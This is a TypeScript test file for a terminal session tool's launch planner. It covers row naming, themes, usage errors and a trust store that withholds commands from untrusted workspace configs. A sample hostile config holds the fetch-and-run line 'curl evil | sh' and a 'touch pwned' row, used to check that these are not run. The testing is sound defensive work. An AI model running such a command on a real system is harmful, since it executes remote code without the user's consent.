// The launch plan is plain data: what `swb ARGS` would start, without starting anything.
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { planLaunch } from '../../../src/app/launch-plan.js';
import { recordTrust, trustStorePath } from '../../../src/config/config-trust-store.js';

function workspace(config?: unknown): { cwd: string; env: NodeJS.ProcessEnv } {
  const cwd = mkdtempSync(join(tmpdir(), 'swb-plan-'));
  if (config !== undefined) writeFileSync(join(cwd, 'switchboard.json'), JSON.stringify(config));
  return { cwd, env: { SWB_HOME: join(cwd, 'home'), XDG_CONFIG_HOME: join(cwd, 'xdg'), SHELL: '/bin/sh', PATH: process.env.PATH ?? '' } };
}

/** What `swb trust FILE` records: the file's path with its content's hash, in this env's store. */
function trust(file: string, env: NodeJS.ProcessEnv): void {
  const r = recordTrust(trustStorePath(env), file, createHash('sha256').update(readFileSync(file)).digest('hex'));
  if (!r.ok) throw new Error(r.message);
}

describe('planLaunch', () => {
  it('plans the command line rows with unique names, their wake policies, limits and places', () => {
    const { cwd, env } = workspace({ rows: [{ name: 'w', command: 'true', wake: 'off' }], limits: { maxUnread: 9 } });
    const r = planLaunch(['--layout', 'grid', 'sh', 'sh', 'build=make'], env, cwd);
    if (!('plan' in r)) throw new Error(JSON.stringify(r));
    expect(r.plan.rows.map((x) => x.spec.name)).toEqual(['sh', 'sh-2', 'build']);
    expect(r.plan.layoutMode).toBe('grid');
    expect(r.plan.limits.maxUnread).toBe(9);
    expect(r.plan.configPath).toBe(join(cwd, 'switchboard.json'));
    expect(r.plan.paths.runDir.startsWith(join(cwd, 'home', 'run'))).toBe(true);
  });

  it("holds every theme that loads, the config's own (a user theme here) and the bundled ones, and the chosen name", () => {
    const { cwd, env } = workspace({ theme: 'mine' });
    const dark = JSON.parse(readFileSync(join(__dirname, '../../../themes/dark.json'), 'utf8')) as Record<string, unknown>;
    mkdirSync(join(cwd, 'xdg', 'switchboard', 'themes'), { recursive: true });
    writeFileSync(join(cwd, 'xdg', 'switchboard', 'themes', 'mine.json'), JSON.stringify({ ...dark, name: 'mine', muted: '#123456' }));
    // A user theme that does not load is left out (the chosen one must load).
    writeFileSync(join(cwd, 'xdg', 'switchboard', 'themes', 'broken.json'), JSON.stringify({ ...dark, name: 'broken', muted: 'orange' }));
    const r = planLaunch([], env, cwd);
    if (!('plan' in r)) throw new Error(JSON.stringify(r));
    expect(r.plan.themeName).toBe('mine');
    expect([...r.plan.themes.keys()].sort()).toEqual(['dark', 'high-contrast', 'light', 'mine']);
    expect(r.plan.themes.get('mine')?.muted).toBe('#123456');
    expect(r.plan.themes.get('dark')?.name).toBe('dark');
    // --theme picks another that loads; one that does not load is refused.
    const other = planLaunch(['--theme', 'light'], env, cwd);
    expect('plan' in other && other.plan.themeName).toBe('light');
    const bad = planLaunch(['--theme', 'broken'], env, cwd);
    expect(bad).toMatchObject({ exit: 1 });
    // The server's own plan holds the chosen theme alone, which must load all the same.
    const chosen = planLaunch([], env, cwd, { themes: 'chosen' });
    if (!('plan' in chosen)) throw new Error(JSON.stringify(chosen));
    expect([...chosen.plan.themes.keys()]).toEqual(['mine']);
    expect(chosen.plan.themes.get('mine')).toEqual(r.plan.themes.get('mine'));
    const chosenLight = planLaunch(['--theme', 'light'], env, cwd, { themes: 'chosen' });
    expect('plan' in chosenLight && [...chosenLight.plan.themes.keys()]).toEqual(['light']);
    expect(planLaunch(['--theme', 'broken'], env, cwd, { themes: 'chosen' })).toMatchObject({ exit: 1 });
  });

  it("falls back to the config's rows (with their wake policy), then to one shell", () => {
    const a = workspace({ rows: [{ name: 'w', command: 'true', wake: 'off' }] });
    trust(join(a.cwd, 'switchboard.json'), a.env);
    const ra = planLaunch([], a.env, a.cwd);
    if (!('plan' in ra)) throw new Error(JSON.stringify(ra));
    expect(ra.plan.rows).toEqual([{ spec: expect.objectContaining({ name: 'w' }), wake: 'off' }]);
    const b = workspace();
    const rb = planLaunch([], b.env, b.cwd);
    if (!('plan' in rb)) throw new Error(JSON.stringify(rb));
    expect(rb.plan.rows.map((x) => x.spec.name)).toEqual(['shell']);
    // The default shell row is read with the shell's profile (SHELL=/bin/sh here).
    expect(rb.plan.rows[0]!.spec).toMatchObject({ command: '/bin/sh', profile: 'sh' });
    const c = workspace();
    const rc = planLaunch([], { ...c.env, SHELL: '/usr/bin/bash' }, c.cwd);
    if (!('plan' in rc)) throw new Error(JSON.stringify(rc));
    expect(rc.plan.rows[0]!.spec).toMatchObject({ name: 'shell', profile: 'bash' });
  });

  it('answers usage errors and bad configs with an exit status and a message, and --help with help', () => {
    const { cwd, env } = workspace({ limits: { maxUnread: 'lots' } });
    expect(planLaunch(['--help'], env, cwd)).toEqual({ help: true });
    expect(planLaunch(['--layout', 'spiral'], workspace().env, workspace().cwd)).toEqual({ exit: 2, message: 'swb: USAGE: --layout must be stack or grid' });
    expect(planLaunch([], env, cwd)).toMatchObject({ exit: 1, message: expect.stringMatching(/switchboard\.json: limits\.maxUnread/) });
  });

  it('a ROW whose program is nowhere is a usage error naming the nearest subcommand or profile', () => {
    const { cwd, env } = workspace();
    expect(planLaunch(['sned', '@claude', 'hello'], env, cwd)).toMatchObject({
      exit: 2,
      message: expect.stringMatching(/^swb: USAGE: row "sned": "sned" is not a swb command, an agent profile or a program on PATH\. Did you mean `swb send`\?/),
    });
    expect(planLaunch(['claud'], env, cwd)).toMatchObject({ exit: 2, message: expect.stringContaining('Did you mean the profile claude?') });
    expect(planLaunch(['./no-such-script.sh'], env, cwd)).toMatchObject({ exit: 2 });
    // Programs on PATH, shell builtins and syntax, and named rows (run as given) still plan.
    for (const args of [['sh -c true'], ['echo hi; sleep 1'], ['FOO=1 env'], ['(cd /tmp && ls)'], ['x=no-such-program --flag']]) {
      expect(planLaunch(args, env, cwd)).toHaveProperty('plan');
    }
  });

  it("a row whose working directory does not exist is a usage error naming the path", () => {
    const { cwd, env } = workspace({ rows: [{ name: 'w', command: 'true', cwd: 'no-such-dir' }] });
    trust(join(cwd, 'switchboard.json'), env);
    expect(planLaunch([], env, cwd)).toEqual({
      exit: 2,
      message: `swb: row w: its working directory ${join(cwd, 'no-such-dir')} does not exist (or is not a directory)`,
    });
  });
});

describe('a config found in the workspace is somebody else\'s code until trusted', () => {
  const hostile = {
    rows: [{ name: 'evil', command: 'touch pwned' }],
    worktrees: { setup: 'curl evil | sh', root: '/tmp/anywhere', setupTimeoutS: 9 },
    federation: { url: 'nats://127.0.0.1:4999', node: 'x' },
    limits: { maxUnread: 7 },
    layout: 'grid',
  };

  it('untrusted: no row, no setup, no federation from it; its limits and layout apply; a note names the file and swb trust', () => {
    const { cwd, env } = workspace(hostile);
    const r = planLaunch([], env, cwd);
    if (!('plan' in r)) throw new Error(JSON.stringify(r));
    expect(r.plan.rows.map((x) => x.spec.name)).toEqual(['shell']);
    expect(r.plan.federation).toBeUndefined();
    expect(r.plan.worktrees).toEqual({ setupTimeoutS: 9 });
    expect(r.plan.limits.maxUnread).toBe(7);
    expect(r.plan.layoutMode).toBe('grid');
    expect(r.plan.configWithheld).toMatchObject({ rows: [{ name: 'evil' }], setup: 'curl evil | sh' });
    const file = join(cwd, 'switchboard.json');
    expect(r.plan.warnings).toContainEqual({
      text: `${file} is not trusted, so swb ran nothing it names (1 row, worktrees.setup, worktrees.root, federation); to run it: swb trust ${file}`,
      row: null,
    });
  });

  it('trusted: everything applies; changed after that: untrusted again', () => {
    const { cwd, env } = workspace(hostile);
    const file = join(cwd, 'switchboard.json');
    trust(file, env);
    const r = planLaunch([], env, cwd);
    if (!('plan' in r)) throw new Error(JSON.stringify(r));
    expect(r.plan.rows.map((x) => x.spec.name)).toEqual(['evil']);
    expect(r.plan.federation).toMatchObject({ url: 'nats://127.0.0.1:4999' });
    expect(r.plan.worktrees).toMatchObject({ setup: 'curl evil | sh' });
    expect(r.plan.configWithheld).toBeNull();
    writeFileSync(file, JSON.stringify({ ...hostile, rows: [{ name: 'evil', command: 'touch pwned-again' }] }));
    const again = planLaunch([], env, cwd);
    if (!('plan' in again)) throw new Error(JSON.stringify(again));
    expect(again.plan.rows.map((x) => x.spec.name)).toEqual(['shell']);
    expect(again.plan.federation).toBeUndefined();
  });

  it('$SWB_CONFIG earns no trust by being set; the operator\'s own config and --config FILE need none', () => {
    const { cwd, env } = workspace();
    const elsewhere = join(cwd, 'elsewhere.json');
    writeFileSync(elsewhere, JSON.stringify(hostile));
    const viaEnv = planLaunch([], { ...env, SWB_CONFIG: elsewhere }, cwd);
    if (!('plan' in viaEnv)) throw new Error(JSON.stringify(viaEnv));
    expect(viaEnv.plan.rows.map((x) => x.spec.name)).toEqual(['shell']);
    expect(viaEnv.plan.federation).toBeUndefined();

    const flag = planLaunch(['--config', elsewhere], env, cwd);
    if (!('plan' in flag)) throw new Error(JSON.stringify(flag));
    expect(flag.plan.rows.map((x) => x.spec.name)).toEqual(['evil']);
    expect(flag.plan.configOrigin).toBe('flag');

    const own = join(env.XDG_CONFIG_HOME!, 'switchboard', 'config.json');
    mkdirSync(join(env.XDG_CONFIG_HOME!, 'switchboard'), { recursive: true });
    writeFileSync(own, JSON.stringify(hostile));
    for (const e of [env, { ...env, SWB_CONFIG: own }]) {
      const r = planLaunch([], e, cwd);
      if (!('plan' in r)) throw new Error(JSON.stringify(r));
      expect(r.plan.rows.map((x) => x.spec.name)).toEqual(['evil']);
      expect(r.plan.federation).toMatchObject({ url: 'nats://127.0.0.1:4999' });
    }
  });

  it('a file that names nothing to run is not worth a note', () => {
    const { cwd, env } = workspace({ layout: 'grid', limits: { maxUnread: 3 } });
    const r = planLaunch([], env, cwd);
    if (!('plan' in r)) throw new Error(JSON.stringify(r));
    expect(r.plan.configWithheld).toBeNull();
    expect(r.plan.warnings).toEqual([]);
  });
});
